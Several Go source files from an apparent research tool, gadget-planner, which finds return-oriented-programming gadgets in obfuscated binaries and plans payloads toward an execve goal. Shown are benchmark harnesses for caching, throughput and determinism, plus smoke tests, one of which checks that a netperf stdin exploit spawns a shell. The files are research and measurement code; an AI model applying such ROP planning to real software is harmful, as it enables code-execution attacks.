// Every response is checked byte-identical (Result.Canon) to the local
// reference, at every concurrency level; a dedup arm pins the
// cross-request singleflight (8 concurrent identical submissions, one
// compute in the server's stats).

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/pipeline"
	"github.com/nofreelunch/gadget-planner/internal/serve"
)

// serveConcurrencies is the client fan-out sweep.
var serveConcurrencies = []int{1, 4, 16}

// ServeBenchRequest is one request's cold-vs-warm comparison. ColdLocalMs
// is the per-process baseline (fresh store, in-process); ColdServedMs and
// WarmServedMs are the served first and second exposures. Speedup is
// ColdLocalMs / WarmServedMs — what a client saves once the shared cache
// is warm.
type ServeBenchRequest struct {
	Program      string  `json:"program"`
	Obf          string  `json:"obf"`
	ColdLocalMs  float64 `json:"cold_local_ms"`
	ColdServedMs float64 `json:"cold_served_ms"`
	WarmServedMs float64 `json:"warm_served_ms"`
	Speedup      float64 `json:"speedup"`
	Identical    bool    `json:"identical"`
}

// ServeBenchConcurrency is one fan-out level: Clients clients each submit
// the full request set against a fresh server (cold pass — concurrent
// duplicates dedup onto single computations), then again warm.
type ServeBenchConcurrency struct {
	Clients       int     `json:"clients"`
	Requests      int     `json:"requests"`
	ColdSeconds   float64 `json:"cold_seconds"`
	WarmSeconds   float64 `json:"warm_seconds"`
	ColdReqPerSec float64 `json:"cold_req_per_sec"`
	WarmReqPerSec float64 `json:"warm_req_per_sec"`
	DedupJoins    int64   `json:"dedup_joins"`
	PlanMisses    int64   `json:"plan_misses"`
	Identical     bool    `json:"identical"`
}

// ServeBenchDedup is the singleflight arm: Clients concurrent identical
// submissions of one uncached request. SingleCompute asserts the server
// computed each stage exactly once (per-stage misses == one request's
// worth) — the computed-once evidence, with DedupJoins counting the whole
// requests that collapsed.
type ServeBenchDedup struct {
	Clients       int   `json:"clients"`
	Requests      int64 `json:"requests"`
	DedupJoins    int64 `json:"dedup_joins"`
	BuildMisses   int64 `json:"build_misses"`
	PlanMisses    int64 `json:"plan_misses"`
	SingleCompute bool  `json:"single_compute"`
	Identical     bool  `json:"identical"`
}

// ServeBench is the machine-readable analysis-service benchmark.
type ServeBench struct {
	Quick       bool `json:"quick"`
	Parallelism int  `json:"parallelism"`

	Requests    []ServeBenchRequest     `json:"requests"`
	Concurrency []ServeBenchConcurrency `json:"concurrency"`
	Dedup       ServeBenchDedup         `json:"dedup"`

	// MinObfSpeedup is the smallest warm-served speedup over the
	// obfuscated arms — the acceptance headline (>= 3x).
	MinObfSpeedup float64 `json:"min_obf_speedup"`
	// AllIdentical: every served response, at every concurrency, rendered
	// byte-identically to the local per-process reference.
	AllIdentical bool `json:"all_identical"`
}

// serveBenchRequests is the deterministic request set: the first few
// benchmark programs under the three obfuscation arms, as plan requests
// with a small node budget (the search exhausts MaxNodes/MaxPlans long
// before any timeout, so results never depend on wall-clock under load).
func serveBenchRequests(opts Options) []serve.Request {
	n := 3
	if opts.Quick {
		n = 2
	}
	progs := opts.Programs
	if len(progs) > n {
		progs = progs[:n]
	}
	specs := []struct{ name, spec string }{
		{"original", ""}, {"llvm-obf", "llvm"}, {"tigress", "tigress"},
	}
	var reqs []serve.Request
	for _, p := range progs {
		for _, s := range specs {
			reqs = append(reqs, serve.Request{
				Op:       serve.OpPlan,
				Program:  p.Name,
				Obf:      s.spec,
				Seed:     opts.Seed,
				Goal:     "execve",
				MaxPlans: 2,
				MaxNodes: 800,
			})
		}
	}
	return reqs
}

// benchServer is an in-process gpd: the real serve.Server behind the real
// HTTP stack on a real unix socket — only the exec is missing.
type benchServer struct {
	store  *pipeline.Store
	srv    *serve.Server
	hsrv   *http.Server
	client *serve.Client
}

func startBenchServer(dir, name string, par int) (*benchServer, error) {
	store := pipeline.NewStore().WithGate(pipeline.NewGate(par, nil))
	srv := serve.NewServer(store, par)
	hsrv := &http.Server{Handler: srv.Handler()}
	sock := filepath.Join(dir, name+".sock")
	l, err := net.Listen("unix", sock)
	if err != nil {
		return nil, err
	}
	go hsrv.Serve(l)
	client, err := serve.Dial("unix:" + sock)
	if err != nil {
		hsrv.Close()
		return nil, err
	}
	if err := client.WaitReady(context.Background(), 5*time.Second); err != nil {
		hsrv.Close()
		return nil, err
	}
	return &benchServer{store: store, srv: srv, hsrv: hsrv, client: client}, nil
}

func (b *benchServer) Close() { b.hsrv.Close() }

// serveFanout submits the request set from `clients` concurrent clients
// (each submits every request) and reports the wall time and whether every
// response matched its reference rendering.
func serveFanout(client *serve.Client, reqs []serve.Request, clients int, ref []string) (float64, bool, error) {
	ctx := context.Background()
	start := time.Now()
	identical := true
	var mu sync.Mutex
	var wg sync.WaitGroup
	errc := make(chan error, clients)
	for c := 0; c < clients; c++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i, r := range reqs {
				res, err := client.Run(ctx, r, nil)
				if err != nil {
					errc <- err
					return
				}
				if res.Canon() != ref[i] {
					mu.Lock()
					identical = false
					mu.Unlock()
				}
			}
		}()
	}
	wg.Wait()
	close(errc)
	if err := <-errc; err != nil {
		return 0, false, err
	}
	return time.Since(start).Seconds(), identical, nil
}

// stageMisses pulls one stage's miss counter out of a stats snapshot.
func stageMisses(st *serve.Stats, stage string) int64 {
	for _, s := range st.Stages {
		if s.Stage == stage {
			return s.Misses
		}
	}
	return 0
}

// BenchServe measures the analysis service: per-request cold-vs-warm
// latency, cold and warm throughput at client concurrency 1/4/16, and the
// cross-request singleflight, all pinned byte-identical to local
// per-process runs.
func BenchServe(opts Options) (*ServeBench, error) {
	opts = opts.withDefaults()
	reqs := serveBenchRequests(opts)
	par := opts.Parallelism
	ctx := context.Background()

	res := &ServeBench{Quick: opts.Quick, Parallelism: par, AllIdentical: true}

	// Local per-process baseline: every request against its own fresh
	// store. The canonical renderings become the identity reference for
	// every served response below.
	ref := make([]string, len(reqs))
	rows := make([]ServeBenchRequest, len(reqs))
	for i, r := range reqs {
		start := time.Now()
		out, err := serve.Run(ctx, pipeline.NewStore(), par, r, nil)
		if err != nil {
			return nil, err
		}
		ref[i] = out.Canon()
		rows[i] = ServeBenchRequest{
			Program:     r.Program,
			Obf:         obfLabel(r.Obf),
			ColdLocalMs: float64(time.Since(start).Microseconds()) / 1000,
		}
	}

	dir, err := os.MkdirTemp("", "gp-servebench-*")
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(dir)

	// Per-request served passes: one client, fresh server; first exposure
	// is the served-cold cost, second the served-warm cost.
	single, err := startBenchServer(dir, "single", par)
	if err != nil {
		return nil, err
	}
	for pass := 0; pass < 2; pass++ {
		for i, r := range reqs {
			start := time.Now()
			out, err := single.client.Run(ctx, r, nil)
			if err != nil {
				single.Close()
				return nil, err
			}
			ms := float64(time.Since(start).Microseconds()) / 1000
			ident := out.Canon() == ref[i]
			if pass == 0 {
				rows[i].ColdServedMs = ms
				rows[i].Identical = ident
			} else {
				rows[i].WarmServedMs = ms
				rows[i].Speedup = speedup(rows[i].ColdLocalMs, ms)
				rows[i].Identical = rows[i].Identical && ident
			}
			if !ident {
				res.AllIdentical = false
			}
		}
	}
	single.Close()
	res.Requests = rows
	res.MinObfSpeedup = minObfSpeedup(rows)

	// Fan-out sweep: a fresh server per level; every client submits the
	// full set, so the cold pass overlaps duplicate submissions (they
	// dedup) and the warm pass is pure hit traffic.
	for _, clients := range serveConcurrencies {
		bs, err := startBenchServer(dir, fmt.Sprintf("c%d", clients), par)
		if err != nil {
			return nil, err
		}
		coldSecs, coldIdent, err := serveFanout(bs.client, reqs, clients, ref)
		if err != nil {
			bs.Close()
			return nil, err
		}
		warmSecs, warmIdent, err := serveFanout(bs.client, reqs, clients, ref)
		if err != nil {
			bs.Close()
			return nil, err
		}
		st, err := bs.client.Stats(ctx)
		bs.Close()
		if err != nil {
			return nil, err
		}
		total := clients * len(reqs)
		row := ServeBenchConcurrency{
			Clients:     clients,
			Requests:    total,
			ColdSeconds: coldSecs,
			WarmSeconds: warmSecs,
			DedupJoins:  st.DedupJoins,
			PlanMisses:  stageMisses(st, "plan"),
			Identical:   coldIdent && warmIdent,
		}
		if coldSecs > 0 {
			row.ColdReqPerSec = float64(total) / coldSecs
		}
		if warmSecs > 0 {
			row.WarmReqPerSec = float64(total) / warmSecs
		}
		if !row.Identical {
			res.AllIdentical = false
		}
		res.Concurrency = append(res.Concurrency, row)
	}

	// Dedup arm: 8 clients race the same uncached request (the last one —
	// a Tigress build, the slowest, so joiners reliably arrive while the
	// winner computes). One whole-request execution must serve all 8.
	dedup, err := startBenchServer(dir, "dedup", par)
	if err != nil {
		return nil, err
	}
	const dedupClients = 8
	target := reqs[len(reqs)-1]
	tref := ref[len(reqs)-1]
	var wg sync.WaitGroup
	var mu sync.Mutex
	dedupIdent := true
	errc := make(chan error, dedupClients)
	for c := 0; c < dedupClients; c++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			out, err := dedup.client.Run(ctx, target, nil)
			if err != nil {
				errc <- err
				return
			}
			if out.Canon() != tref {
				mu.Lock()
				dedupIdent = false
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	close(errc)
	if err := <-errc; err != nil {
		dedup.Close()
		return nil, err
	}
	st, err := dedup.client.Stats(ctx)
	dedup.Close()
	if err != nil {
		return nil, err
	}
	res.Dedup = ServeBenchDedup{
		Clients:     dedupClients,
		Requests:    st.Requests,
		DedupJoins:  st.DedupJoins,
		BuildMisses: stageMisses(st, "build"),
		PlanMisses:  stageMisses(st, "plan"),
		Identical:   dedupIdent,
	}
	// Computed once: one build and one plan miss across 8 submissions.
	// (DedupJoins is reported but not asserted — a client that arrives
	// after the winner finishes is served by the store, not the call.)
	res.Dedup.SingleCompute = res.Dedup.BuildMisses == 1 && res.Dedup.PlanMisses == 1
	if !dedupIdent {
		res.AllIdentical = false
	}
	return res, nil
}

func obfLabel(spec string) string {
	if spec == "" {
		return "original"
	}
	return spec
}

// minObfSpeedup is the smallest warm speedup among obfuscated requests.
func minObfSpeedup(rows []ServeBenchRequest) float64 {
	min := 0.0
	for _, r := range rows {
		if r.Obf == "original" {
			continue
		}
		if min == 0 || r.Speedup < min {
			min = r.Speedup
		}
	}
	return min
}

// RenderServeBench prints the benchmark as tables.
func RenderServeBench(b *ServeBench) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "serve bench: %d requests, parallelism %d\n", len(b.Requests), b.Parallelism)
	fmt.Fprintf(&sb, "%-12s %-10s %12s %12s %12s %9s %6s\n",
		"Program", "Obf", "ColdLocal", "ColdServed", "WarmServed", "Speedup", "Ident")
	for _, r := range b.Requests {
		fmt.Fprintf(&sb, "%-12s %-10s %10.1fms %10.1fms %10.1fms %8.1fx %6v\n",
			r.Program, r.Obf, r.ColdLocalMs, r.ColdServedMs, r.WarmServedMs, r.Speedup, r.Identical)
	}
	fmt.Fprintf(&sb, "min obfuscated speedup: %.1fx\n", b.MinObfSpeedup)
	fmt.Fprintf(&sb, "%-8s %9s %9s %9s %12s %12s %7s %6s\n",
		"Clients", "Requests", "Cold(s)", "Warm(s)", "Cold req/s", "Warm req/s", "Joins", "Ident")
	for _, c := range b.Concurrency {
		fmt.Fprintf(&sb, "%-8d %9d %9.2f %9.2f %12.1f %12.1f %7d %6v\n",
			c.Clients, c.Requests, c.ColdSeconds, c.WarmSeconds,
			c.ColdReqPerSec, c.WarmReqPerSec, c.DedupJoins, c.Identical)
	}
	d := b.Dedup
	fmt.Fprintf(&sb, "dedup: %d identical submissions -> %d joins, build misses %d, plan misses %d, single-compute %v, identical %v\n",
		d.Clients, d.DedupJoins, d.BuildMisses, d.PlanMisses, d.SingleCompute, d.Identical)
	fmt.Fprintf(&sb, "all responses identical to local runs: %v\n", b.AllIdentical)
	return sb.String()
}
