package experiments

// BenchISA is the multi-backend attack-surface benchmark behind
// `make bench-isa`: it builds each program for every instruction-set
// backend (x64, rv64, rv64c), counts classic gadgets on the original and
// the LLVM-style obfuscated build, and records the two comparisons the
// multi-ISA refactor exists to make: the obfuscation-driven increase per
// backend, and the aligned-vs-compressed decode surface on RISC-V — the
// rv64c arm scans the same generated code at stride 2 with compressed
// decoding enabled, so the paper's C-extension claim shows up as a
// strictly larger pool than the aligned stride-4 rv64 scan. It also pins
// per-backend determinism: extraction pools render byte-identically across
// parallelism 1/2/8 and predecode table on/off. BENCH_ISA.json is its JSON
// rendering.

import (
	"context"
	"fmt"
	"strings"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/pipeline"
)

// ISAArm is one (program, obfuscation, backend) cell.
type ISAArm struct {
	Program string `json:"program"`
	Passes  string `json:"passes"` // "" = original
	ISA     string `json:"isa"`

	CodeBytes int `json:"code_bytes"`
	// Gadgets is the classic syntactic count (gadget.CountISA total).
	Gadgets int `json:"gadgets"`
	Returns int `json:"returns"`
	// Pool is the extracted semantic pool size under Extract defaults.
	Pool int `json:"pool"`
}

// ISABench is the full benchmark record (BENCH_ISA.json).
type ISABench struct {
	Quick bool  `json:"quick"`
	Seed  int64 `json:"seed"`

	Arms []ISAArm `json:"arms"`

	// Determinism: per backend, extraction pools must render
	// byte-identically (gadget.Pool.Canon) across every combination of the
	// axes below.
	ParallelismArms []int `json:"parallelism_arms"`
	PoolsIdentical  bool  `json:"pools_identical"`

	// CompressedLarger is the C-extension claim: every rv64c arm's pool is
	// strictly larger than the matching aligned rv64 arm's.
	CompressedLarger bool `json:"compressed_larger"`
}

// isaBenchBackends are the backend arms, default first.
var isaBenchBackends = []string{"x64", "rv64", "rv64c"}

// isaBenchParallelisms is the determinism-matrix axis.
var isaBenchParallelisms = []int{1, 2, 8}

// BenchISA runs the count arms and the per-backend identity matrix.
func BenchISA(opts Options) (*ISABench, error) {
	b := &ISABench{
		Quick:            opts.Quick,
		Seed:             opts.Seed,
		ParallelismArms:  append([]int(nil), isaBenchParallelisms...),
		PoolsIdentical:   true,
		CompressedLarger: true,
	}

	programs := []string{"crc", "fibonacci"}
	if opts.Quick {
		programs = programs[:1]
	}
	obfArms := []struct {
		label  string
		passes []obfuscate.Pass
	}{
		{"", nil},
		{"llvm-obf", obfuscate.LLVMObf()},
	}

	// pool size of the rv64 arm, keyed by program|passes, so the rv64c
	// arm that follows it can check the strictly-larger claim.
	rvPool := map[string]int{}

	for _, name := range programs {
		p, ok := benchprog.ByName(name)
		if !ok {
			return nil, fmt.Errorf("isabench: unknown program %q", name)
		}
		for _, oa := range obfArms {
			for _, isaName := range isaBenchBackends {
				bin, _, err := pipeline.BuildISACtx(
					context.Background(), opts.Store, p, oa.passes, opts.Seed, isaName)
				if err != nil {
					return nil, err
				}
				counts := pipeline.CountISA(opts.Store, bin, 0, isaName)
				pool := gadget.Extract(bin, gadget.Options{ISA: isaName})
				arm := ISAArm{
					Program:   name,
					Passes:    oa.label,
					ISA:       isaName,
					CodeBytes: codeBytes(bin),
					Gadgets:   gadget.TotalCount(counts),
					Returns:   counts[gadget.TypeReturn],
					Pool:      pool.Size(),
				}
				b.Arms = append(b.Arms, arm)

				cell := name + "|" + oa.label
				switch isaName {
				case "rv64":
					rvPool[cell] = arm.Pool
				case "rv64c":
					if arm.Pool <= rvPool[cell] {
						b.CompressedLarger = false
					}
				}

				// Identity matrix: the single-worker table walk fixes the
				// expected rendering; every worker count and both decode
				// strategies must match it.
				ref := pool.Canon()
				for _, par := range isaBenchParallelisms {
					for _, noTable := range []bool{false, true} {
						got := gadget.Extract(bin, gadget.Options{
							ISA: isaName, Parallelism: par, NoPredecode: noTable,
						}).Canon()
						if got != ref {
							b.PoolsIdentical = false
						}
					}
				}
			}
		}
	}
	return b, nil
}

// RenderISABench prints the benchmark summary.
func RenderISABench(b *ISABench) string {
	var sb strings.Builder
	mode := "full"
	if b.Quick {
		mode = "quick"
	}
	fmt.Fprintf(&sb, "multi-ISA attack surface (%s, seed %d):\n", mode, b.Seed)
	fmt.Fprintf(&sb, "  %-12s %-10s %-6s %10s %8s %8s %6s\n",
		"program", "passes", "isa", "code bytes", "gadgets", "pool", "")
	// Index rv64 pools so the rv64c rows can print the compressed/aligned
	// ratio inline.
	rv := map[string]int{}
	for _, a := range b.Arms {
		if a.ISA == "rv64" {
			rv[a.Program+"|"+a.Passes] = a.Pool
		}
	}
	for _, a := range b.Arms {
		passes := a.Passes
		if passes == "" {
			passes = "(orig)"
		}
		note := ""
		if a.ISA == "rv64c" {
			if base := rv[a.Program+"|"+a.Passes]; base > 0 {
				note = fmt.Sprintf("%.2fx", float64(a.Pool)/float64(base))
			}
		}
		fmt.Fprintf(&sb, "  %-12s %-10s %-6s %10d %8d %8d %6s\n",
			a.Program, passes, a.ISA, a.CodeBytes, a.Gadgets, a.Pool, note)
	}
	fmt.Fprintf(&sb, "  rv64c pool strictly larger than aligned rv64 in every cell: %t\n",
		b.CompressedLarger)
	fmt.Fprintf(&sb, "  pools identical across parallelism %v x predecode on/off, per backend: %t\n",
		b.ParallelismArms, b.PoolsIdentical)
	return sb.String()
}
