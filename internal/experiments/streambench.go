package experiments

// BenchStream is the corpus scale-out benchmark behind `make bench-stream`:
// it measures the streaming runner cold (empty disk cache), warm
// (cross-process restarts over the same cache directory, at several worker
// counts), and under a deliberately starved disk budget where the LRU
// evictor must cycle. BENCH_STREAM.json is its JSON rendering.

import (
	"fmt"
	"os"
	"strings"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/pipeline"
)

// StreamBench is the full benchmark record (BENCH_STREAM.json).
type StreamBench struct {
	Quick    bool  `json:"quick"`
	Cells    int   `json:"cells"`
	Programs int   `json:"programs"`
	Seed     int64 `json:"seed"`

	// Cold vs warm throughput: the warm passes restart with a fresh
	// process-equivalent store over the cold pass's cache directory.
	ColdSeconds     float64 `json:"cold_seconds"`
	WarmSeconds     float64 `json:"warm_seconds"`
	ColdCellsPerSec float64 `json:"cold_cells_per_sec"`
	WarmCellsPerSec float64 `json:"warm_cells_per_sec"`
	WarmSpeedup     float64 `json:"warm_speedup"`

	// Determinism: the aggregate table must render byte-identically in
	// every arm, at every worker count.
	ParallelismArms []int `json:"parallelism_arms"`
	TablesIdentical bool  `json:"tables_identical"`

	// Bounded memory: process peak RSS, plus sampled live-heap peaks for
	// the whole cold pass vs its first quarter (flat memory keeps them
	// close even though 4x the cells flowed through).
	PeakRSSBytes         int64  `json:"peak_rss_bytes"`
	PeakHeapBytes        uint64 `json:"peak_heap_bytes"`
	QuarterPeakHeapBytes uint64 `json:"quarter_peak_heap_bytes"`
	MemBudgetEntries     int    `json:"mem_budget_entries"`
	MemEvictions         int64  `json:"mem_evictions"`

	// Store behavior in the last warm pass.
	WarmStages  []pipeline.StageStats `json:"warm_stages"`
	WarmHitRate float64               `json:"warm_hit_rate"`
	WarmDisk    pipeline.DiskStats    `json:"warm_disk"`

	// Eviction arm: a slice of the corpus re-run against a starved disk
	// budget; the evictor must cycle (Evictions > 0) and the slice's
	// aggregate table must still match a store-free reference run.
	EvictCells           int   `json:"evict_cells"`
	EvictDiskBudget      int64 `json:"evict_disk_budget"`
	EvictEvictions       int64 `json:"evict_evictions"`
	EvictTablesIdentical bool  `json:"evict_tables_identical"`

	OutputFailures int    `json:"output_failures"`
	Table          string `json:"-"`
}

// streamBenchParallelisms are the warm-arm worker counts the determinism
// acceptance criterion names.
var streamBenchParallelisms = []int{1, 2, 8}

// BenchStream runs the cold/warm/eviction arms. evictBytes is the starved
// disk budget for the eviction arm (0 = 256 KiB). Cold-pass rows stream to
// opts.Rows; the warm and eviction arms discard rows.
func BenchStream(opts StreamOptions, evictBytes int64) (*StreamBench, error) {
	opts = opts.withDefaults()
	if evictBytes <= 0 {
		evictBytes = 256 << 10
	}
	dir, err := os.MkdirTemp("", "gp-stream-*")
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(dir)

	freshStore := func(cacheDir string, budget int64) (*pipeline.Store, error) {
		disk, err := pipeline.OpenDisk(cacheDir, pipeline.DiskOptions{MaxBytes: budget})
		if err != nil {
			return nil, err
		}
		return pipeline.NewStore().LimitMemory(opts.MemBudget).WithDisk(disk), nil
	}

	b := &StreamBench{
		Quick:            opts.Quick,
		Seed:             opts.Seed,
		MemBudgetEntries: opts.MemBudget,
		ParallelismArms:  append([]int(nil), streamBenchParallelisms...),
		EvictDiskBudget:  evictBytes,
		TablesIdentical:  true,
	}

	// Cold pass: empty cache directory, rows streamed to the caller.
	cold := opts
	cold.Store, err = freshStore(dir, 0)
	if err != nil {
		return nil, err
	}
	coldRun, err := RunStream(cold)
	if err != nil {
		return nil, err
	}
	b.Cells, b.Programs = coldRun.Cells, coldRun.Programs
	b.ColdSeconds, b.ColdCellsPerSec = coldRun.Seconds, coldRun.CellsPerSec
	b.PeakHeapBytes = coldRun.PeakHeapBytes
	b.QuarterPeakHeapBytes = coldRun.QuarterPeakHeapBytes
	b.OutputFailures = coldRun.OutputFailures
	b.MemEvictions = cold.Store.MemEvictions()
	b.Table = coldRun.Table

	// Warm arms: each restarts with a fresh store (a new process's view)
	// over the now-populated cache directory, at each acceptance worker
	// count. Tables must match the cold pass byte for byte.
	for _, par := range streamBenchParallelisms {
		warm := opts
		warm.Rows = nil
		warm.Parallelism = par
		warm.Store, err = freshStore(dir, 0)
		if err != nil {
			return nil, err
		}
		run, err := RunStream(warm)
		if err != nil {
			return nil, err
		}
		if run.Table != coldRun.Table {
			b.TablesIdentical = false
		}
		b.WarmSeconds, b.WarmCellsPerSec = run.Seconds, run.CellsPerSec
		b.WarmStages = warm.Store.Stats()
		b.WarmHitRate = warmHitRate(b.WarmStages)
		b.WarmDisk = warm.Store.DiskStats()
		b.OutputFailures += run.OutputFailures
	}
	b.WarmSpeedup = speedup(b.ColdSeconds, b.WarmSeconds)

	// Eviction arm: a quarter of the corpus against a starved disk budget
	// in a fresh directory — the evictor must cycle — compared against a
	// store-free run of the same slice.
	evict := opts
	evict.Rows = nil
	evict.Cells = max(coldRun.Cells/4, cellsPerProgram())
	evict.Store, err = freshStore(dir+"-small", evictBytes)
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(dir + "-small")
	evictRun, err := RunStream(evict)
	if err != nil {
		return nil, err
	}
	b.EvictCells = evictRun.Cells
	b.EvictEvictions = evict.Store.DiskStats().Evictions
	b.OutputFailures += evictRun.OutputFailures

	ref := opts
	ref.Rows = nil
	ref.Cells = evict.Cells
	ref.Store = pipeline.NewDisabledStore()
	refRun, err := RunStream(ref)
	if err != nil {
		return nil, err
	}
	b.EvictTablesIdentical = evictRun.Table == refRun.Table
	b.OutputFailures += refRun.OutputFailures

	b.PeakRSSBytes = readPeakRSS()
	return b, nil
}

// warmHitRate is the fraction of warm-pass stage requests served from the
// store (memory or disk tier).
func warmHitRate(stages []pipeline.StageStats) float64 {
	var hits, total int64
	for _, st := range stages {
		hits += st.Hits
		total += st.Hits + st.Misses
	}
	if total == 0 {
		return 0
	}
	return float64(hits) / float64(total)
}

// RenderStreamBench prints the benchmark summary plus the aggregate table.
func RenderStreamBench(b *StreamBench) string {
	var sb strings.Builder
	mode := "full"
	if b.Quick {
		mode = "quick"
	}
	fmt.Fprintf(&sb, "stream corpus (%s): %d cells over %d generated programs (seed %d)\n",
		mode, b.Cells, b.Programs, b.Seed)
	fmt.Fprintf(&sb, "  cold: %s (%.1f cells/s)   warm: %s (%.1f cells/s)   speedup %.2fx\n",
		fmtDur(b.ColdSeconds), b.ColdCellsPerSec, fmtDur(b.WarmSeconds), b.WarmCellsPerSec, b.WarmSpeedup)
	fmt.Fprintf(&sb, "  tables identical across parallelism %v: %t\n", b.ParallelismArms, b.TablesIdentical)
	fmt.Fprintf(&sb, "  peak RSS %.1f MiB; live heap peak %.1f MiB (first quarter %.1f MiB); mem tier %d entries, %d evicted\n",
		float64(b.PeakRSSBytes)/(1<<20), float64(b.PeakHeapBytes)/(1<<20),
		float64(b.QuarterPeakHeapBytes)/(1<<20), b.MemBudgetEntries, b.MemEvictions)
	fmt.Fprintf(&sb, "  warm hit rate %.0f%%; warm disk: %.1f MiB read, %d evictions\n",
		100*b.WarmHitRate, float64(b.WarmDisk.BytesRead)/(1<<20), b.WarmDisk.Evictions)
	fmt.Fprintf(&sb, "  eviction arm: %d cells under %d KiB budget -> %d disk evictions; table matches store-free run: %t\n",
		b.EvictCells, b.EvictDiskBudget>>10, b.EvictEvictions, b.EvictTablesIdentical)
	fmt.Fprintf(&sb, "  output-stability failures: %d\n\n", b.OutputFailures)
	sb.WriteString(b.Table)
	return sb.String()
}

func fmtDur(secs float64) string {
	return (time.Duration(secs*float64(time.Second)) / time.Millisecond * time.Millisecond).String()
}
