package experiments

import (
	"strings"
	"testing"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/planner"
)

// quickOpts keeps experiment smoke tests fast.
func quickOpts() Options {
	return Options{
		Programs: benchprog.Benchmarks()[:2],
		Planner:  planner.Options{MaxPlans: 6, MaxNodes: 3000, Timeout: 10 * time.Second},
	}
}

func TestFig1Shape(t *testing.T) {
	rows, err := Fig1(quickOpts())
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("rows = %d", len(rows))
	}
	for _, r := range rows {
		// The paper's headline: obfuscation increases gadget counts.
		if r.LLVMObf <= r.Original {
			t.Errorf("%s: LLVM-Obf %d <= original %d", r.Program, r.LLVMObf, r.Original)
		}
		if r.Tigress <= r.LLVMObf {
			t.Errorf("%s: Tigress %d <= LLVM-Obf %d", r.Program, r.Tigress, r.LLVMObf)
		}
	}
	if RenderFig1(rows) == "" {
		t.Error("empty render")
	}
}

func TestTable1Shape(t *testing.T) {
	rows, err := Table1(quickOpts())
	if err != nil {
		t.Fatal(err)
	}
	byType := map[string]Table1Row{}
	for _, r := range rows {
		byType[r.Type.String()] = r
	}
	// Every class must grow; indirect classes exist only after obfuscation
	// (virtualization dispatchers), matching the paper's UIJ/CIJ story.
	for _, cls := range []string{"Return", "UDJ"} {
		if byType[cls].IncreaseRate <= 0 {
			t.Errorf("%s increase rate = %.1f", cls, byType[cls].IncreaseRate)
		}
	}
	if byType["UIJ"].Obfuscated <= byType["UIJ"].Original {
		t.Errorf("UIJ did not grow: %+v", byType["UIJ"])
	}
	if RenderTable1(rows) == "" {
		t.Error("empty render")
	}
}

func TestTable4AndTable5Shape(t *testing.T) {
	opts := quickOpts()
	opts.Programs = benchprog.Benchmarks()[:1]
	rows, gp, err := Table4(opts)
	if err != nil {
		t.Fatal(err)
	}
	find := func(obf, tool string) Table4Row {
		for _, r := range rows {
			if r.Obf == obf && r.Tool == tool {
				return r
			}
		}
		t.Fatalf("row %s/%s missing", obf, tool)
		return Table4Row{}
	}
	for _, obf := range []string{"Original", "LLVM-Obf", "Tigress"} {
		rg := find(obf, "ROPGadget").Total
		ag := find(obf, "Angrop").Total
		sg := find(obf, "SGC").Total
		gpT := find(obf, "Gadget-Planner").Total
		if rg > ag || ag > sg || sg > gpT {
			t.Errorf("%s ordering: RG=%d Angrop=%d SGC=%d GP=%d", obf, rg, ag, sg, gpT)
		}
		if gpT == 0 {
			t.Errorf("%s: Gadget-Planner found nothing", obf)
		}
	}
	// The increased-attack-surface accounting: the original build can never
	// have payloads relying on obfuscation-introduced gadgets.
	if find("Original", "Gadget-Planner").NewTotal != 0 {
		t.Error("original build has 'new' payloads")
	}
	if !strings.Contains(RenderTable4(rows), "(+") {
		t.Error("render lacks newly-introduced annotation")
	}

	// The pool-level attack-surface signal: conditional/indirect/merged
	// gadget classes exist only after obfuscation.
	comp, err := PoolComposition(opts)
	if err != nil {
		t.Fatal(err)
	}
	var orig, llvm PoolCompositionRow
	for _, r := range comp {
		if r.Obf == "Original" {
			orig = r
		}
		if r.Obf == "LLVM-Obf" {
			llvm = r
		}
	}
	if orig.Conditional != 0 || orig.Indirect != 0 {
		t.Errorf("original pool has cond=%d ij=%d", orig.Conditional, orig.Indirect)
	}
	if llvm.Conditional == 0 || llvm.Indirect == 0 {
		t.Errorf("LLVM-Obf pool lacks new classes: %+v", llvm)
	}
	if RenderPoolComposition(comp) == "" {
		t.Error("empty composition render")
	}

	t5 := Table5(gp)
	if len(t5) == 0 || t5[0].Stats.Chains == 0 {
		t.Errorf("table5 = %+v", t5)
	}
	if RenderTable5(t5) == "" {
		t.Error("empty table5 render")
	}
}

func TestNetperfCaseStudy(t *testing.T) {
	res, err := Netperf(Options{Planner: planner.Options{MaxPlans: 16, MaxNodes: 8000, Timeout: 20 * time.Second}})
	if err != nil {
		t.Fatal(err)
	}
	if res.Payloads < 16 {
		t.Errorf("payloads = %d, want >= 16 (the paper found 16)", res.Payloads)
	}
	if !res.ExploitWorks {
		t.Fatal("end-to-end stdin exploit did not spawn the shell")
	}
	if res.Offset <= 0 || res.StackBase == 0 {
		t.Errorf("geometry: offset=%d base=%#x", res.Offset, res.StackBase)
	}
	if !strings.Contains(RenderNetperf(res), "execve") {
		t.Error("render lacks execve")
	}
}

func TestAblations(t *testing.T) {
	opts := quickOpts()
	opts.Programs = benchprog.Benchmarks()[:1]
	sub, err := AblationSubsumption(opts)
	if err != nil {
		t.Fatal(err)
	}
	if len(sub) != 1 || sub[0].ReductionFactor <= 1 {
		t.Errorf("subsumption ablation = %+v", sub)
	}
	if RenderAblationSubsumption(sub) == "" {
		t.Error("empty render")
	}

	cls, err := AblationGadgetClasses(opts)
	if err != nil {
		t.Fatal(err)
	}
	if len(cls) < 5 {
		t.Fatalf("class rows = %d", len(cls))
	}
	all := cls[0].Payloads
	if all == 0 {
		t.Error("all-classes found nothing")
	}
	// The no-deref pool must be strictly weaker on compiled binaries (the
	// deref mechanism is what unlocks spill-code gadgets).
	for _, r := range cls {
